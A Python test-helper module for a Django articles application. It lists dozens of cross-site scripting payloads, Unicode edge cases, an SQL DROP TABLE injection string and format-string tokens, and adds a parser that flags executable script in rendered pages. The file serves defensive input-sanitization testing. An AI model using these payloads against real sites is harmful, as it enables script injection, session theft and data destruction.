"""Hostile input for every field a reader or editor can type into, and the check that a
page built from it runs no script.

Reusable by any feature's tests: feed XSS_PAYLOADS (and HOSTILE_TEXT) through a field,
then call assert_no_executable_script(response_html) on every page that shows it.
"""

from html.parser import HTMLParser

# Known XSS vectors (OWASP filter-evasion cheat sheet and friends): tags, attributes,
# URL schemes, encodings, parser confusion, and Markdown link/image syntax.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",  # noqa: E501
    '<IMG SRC="jav\tascript:alert(1);">',
    '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    '<IMG SRC=" &#14;  javascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=0 y=20>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<table background=javascript:alert(1)>",
    "<td background=javascript:alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org/" onclick="alert(1))',
    '<http://example.org/" onmouseover="alert(1)>',
    "[a]: javascript:alert(1)\n\n[x][a]",
    "`<script>alert(1)</script>`",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<scr\x00ipt>alert(1)</script>",
    "{{ 7*7 }}{% debug %}<script>alert(1)</script>",
]

# Text that must come back as itself or be refused cleanly: never a 500.
HOSTILE_TEXT = [
    "\u202eevil\u202c",  # right-to-left override
    "\u200f\u200e\u2067isolate\u2069",  # RTL/LTR marks and isolates
    "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Zalgo\u0336\u0336",  # combining marks
    "👩🏽‍⚕️🏳️‍🌈 family: 👨‍👩‍👧‍👦",  # emoji with ZWJ sequences and modifiers
    "\ufeffBOM \u2028line\u2029para",
    "Ω≈ç√∫˜µ≤≥÷ 田中さん 한국어 العربية",
    "\U0001d57f\U0001d58d\U0001d58a",  # mathematical alphanumerics
    "'; DROP TABLE articles_article; --",
    "%s%s%s%n %x {0} {{}}",
]

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data"}
_BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _ScriptFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        # JSON-LD is a data block browsers never run (CSP script-src 'none' lets it be); its
        # content is escaped by the json_ld filter, so it cannot close the element early.
        is_data_block = tag == "script" and dict(attrs).get("type") == "application/ld+json"
        if tag in {"script", "iframe", "object", "embed", "base"} and not is_data_block:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in _URL_ATTRIBUTES and value:
                # As the URL parser reads it: C0 controls and spaces trimmed at the ends,
                # tabs and newlines dropped anywhere ("java\tscript:" is "javascript:").
                squeezed = value.strip("".join(map(chr, range(33))))
                squeezed = "".join(c for c in squeezed if c not in "\t\n\r").lower()
                if squeezed.startswith(_BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value[:40]!r}>")
            if tag == "meta" and name == "http-equiv" and (value or "").lower() == "refresh":
                self.problems.append("<meta refresh>")

    handle_startendtag = handle_starttag


def executable_script(html):
    """What in this HTML could run script: tags, handlers, script URLs (empty: none)."""
    finder = _ScriptFinder()
    finder.feed(html)
    finder.close()
    return finder.problems


def assert_no_executable_script(html):
    """Fail if the HTML could run script. Public pages need none, so none is allowed."""
    problems = executable_script(html)
    assert problems == [], problems


def assert_import_refused(tmp_path, content, message):
    """import_article refuses a file with `message` and leaves no article or callout."""
    import io

    import pytest
    from django.core.management import CommandError, call_command

    from articles.models import Article, Callout

    bad = tmp_path / "bad.txt"
    bad.write_bytes(content)
    with pytest.raises(CommandError, match=message):
        call_command("import_article", str(bad), stdout=io.StringIO())
    assert Article.objects.count() == 0
    assert Callout.objects.count() == 0
